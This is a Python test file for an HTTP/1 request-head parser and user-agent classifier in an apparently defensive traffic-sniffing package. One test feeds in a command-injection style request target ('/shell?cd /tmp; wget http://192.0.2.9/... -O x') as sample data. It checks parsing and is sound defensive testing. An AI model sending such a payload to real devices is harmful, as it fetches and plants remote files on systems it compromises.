# SPDX-License-Identifier: MIT
"""HTTP/1 request heads are found wherever the segments are cut, and nothing else is taken for one."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from decnet_sniff.protocols.verdict import NEED_MORE, NOTHING, Verdict
from decnet_sniff.sniff import payloads
from decnet_sniff.sniff.http import user_agent
from decnet_sniff.sniff.http.request_head import MAX_HEAD, Head, order_hash, recognise

CURL = b"GET /a?b HTTP/1.1\r\nHost: example.com\r\nuser-Agent: curl/8.4.0\r\nAccept: */*\r\n\r\n"


def test_request_head_is_read() -> None:
    assert recognise(CURL + b"body") == Head(
        b"GET", b"/a?b", b"HTTP/1.1", (b"Host", b"user-Agent", b"Accept"), b"curl/8.4.0", b"example.com"
    )


def test_every_cut_before_the_end_asks_for_more() -> None:
    for length in range(len(CURL) - 1):
        assert recognise(CURL[:length]) is NEED_MORE, length


def test_head_may_end_its_lines_with_lf_alone() -> None:
    assert recognise(CURL.replace(b"\r\n", b"\n")) == recognise(CURL)


def test_head_without_fields_is_read() -> None:
    assert recognise(b"HEAD / HTTP/1.0\r\n\r\n") == Head(b"HEAD", b"/", b"HTTP/1.0", (), None, None)


def test_folded_and_broken_lines_are_no_names_and_the_first_agent_counts() -> None:
    head = recognise(b"GET / HTTP/1.1\r\nA: 1\r\n more: 2\r\nbroken\r\nUser-Agent:\r\nUser-Agent: x\r\nA : 3\r\n\r\n")
    assert isinstance(head, Head)
    assert head.names == (b"A", b"User-Agent", b"User-Agent", b"A ")
    assert head.user_agent == b""


def test_a_head_longer_than_the_limit_is_read_as_far_as_that() -> None:
    head = recognise(b"GET / HTTP/1.1\r\nHost: x\r\nCookie: " + b"c" * MAX_HEAD)
    assert isinstance(head, Head)
    assert head.names == (b"Host", b"Cookie")


@pytest.mark.parametrize("before", [b"\r\n", b"\n", b"\r\n" * 4])
def test_empty_lines_before_the_request_are_passed_over(before: bytes) -> None:
    assert recognise(before + CURL) == recognise(CURL)
    assert recognise(before) is NEED_MORE
    assert recognise(b"\r\n" * 5 + CURL) is NOTHING


def test_a_target_may_have_spaces_and_anything_else_in_it() -> None:
    head = recognise(b"GET /shell?cd /tmp; wget http://192.0.2.9/\xff\0 -O x HTTP/1.1 \r\nHost: a\r\n\r\n")
    assert isinstance(head, Head)
    assert (head.method, head.version) == (b"GET", b"HTTP/1.1")
    assert head.target == b"/shell?cd /tmp; wget http://192.0.2.9/\xff\0 -O x"


def test_a_line_of_spaces_takes_no_longer_than_others() -> None:
    line = b"GET" + b" " * (MAX_HEAD - 10)
    assert recognise(line) is NEED_MORE
    assert recognise(line + b"\r\n") is NOTHING


@pytest.mark.parametrize(
    "start",
    [
        b"\x16\x03\x01", b"SSH-2.0-x\r\n", b"HTTP/1.1 200 OK\r\n\r\n", b"GET /\r\n", b"GET / HTTP/2.0\r\n\r\n",
        b"PRI * HTTP/2.0\r\n\r\n", b"220 mail.example ESMTP\r\n", b"X" * 33, b" GET / HTTP/1.1\r\n\r\n", b"\0",
        b"OPTIONS sip:x SIP/2.0\r\n\r\n",
    ],
)  # fmt: skip
def test_other_protocols_are_nothing(start: bytes) -> None:
    assert recognise(start) is NOTHING


def test_patience_with_a_request_line_ends() -> None:
    assert recognise(b"GET " + b"a" * 5000) is NEED_MORE
    assert recognise(b"GET " + b"a" * MAX_HEAD) is NOTHING


@given(st.binary(max_size=400))
def test_any_bytes_never_raise(data: bytes) -> None:
    assert isinstance(recognise(data), Head | Verdict)


@given(st.binary(max_size=400))
def test_any_fields_never_raise_and_stay_bounded(data: bytes) -> None:
    head = recognise(b"GET / HTTP/1.1\r\n" + data + b"\r\n\r\n")
    assert isinstance(head, Head)
    assert payloads.http_client(head).count == 1


@given(st.integers(0, len(CURL) - 1), st.integers(0, 255))
def test_a_flipped_byte_never_raises(place: int, value: int) -> None:
    assert isinstance(recognise(CURL[:place] + bytes([value]) + CURL[place + 1 :]), Head | Verdict)


def test_hash_depends_on_order_and_spelling_only() -> None:
    assert order_hash((b"Host", b"Accept")) == "1af9d02f0bf72ab89ae62810ca97ec06"
    assert order_hash((b"Accept", b"Host")) != order_hash((b"Host", b"Accept"))
    assert order_hash((b"host", b"Accept")) != order_hash((b"Host", b"Accept"))
    one, other = recognise(CURL), recognise(CURL.replace(b"example.com", b"127.0.0.1"))
    assert isinstance(one, Head)
    assert isinstance(other, Head)
    assert payloads.http_client(one) == payloads.http_client(other)


@pytest.mark.parametrize(
    ("agent", "expected"),
    [
        (None, "absent"),
        (b"", "empty"),
        (b" ", "empty"),
        (b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "browser"),
        (b"Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36", "browser"),
        (b"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "bot"),
        (b"Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", "bot"),
        (b"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "tool"),
        (b"Mozilla/5.0 zgrab/0.x", "tool"),
        (b"curl/8.4.0", "tool"),
        (b"sqlmap/1.8#stable (https://sqlmap.org)", "tool"),
        (b"python-requests/2.32.3", "library"),
        (b"Go-http-client/1.1", "library"),
        (b"Hello, world", "other"),
        (b"\xff\xfe", "other"),
    ],
)
def test_agents_are_classified(agent: bytes | None, expected: str) -> None:
    assert user_agent.classify(agent) == expected


@given(st.none() | st.binary(max_size=100))
def test_every_agent_has_a_class(agent: bytes | None) -> None:
    assert user_agent.classify(agent) in user_agent.CLASSES
